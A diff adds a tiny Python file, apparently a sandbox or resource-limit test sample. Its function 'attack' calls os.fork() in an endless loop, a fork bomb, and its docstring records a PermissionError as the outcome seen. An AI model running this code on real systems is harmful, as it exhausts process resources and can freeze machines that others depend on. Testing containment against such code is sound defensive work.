@@ -1,0 +1,11 @@
+"""Starts processes for as long as it can.
+
+Seen: PermissionError
+"""
+
+import os
+
+
+def attack():
+    while True:
+        os.fork()
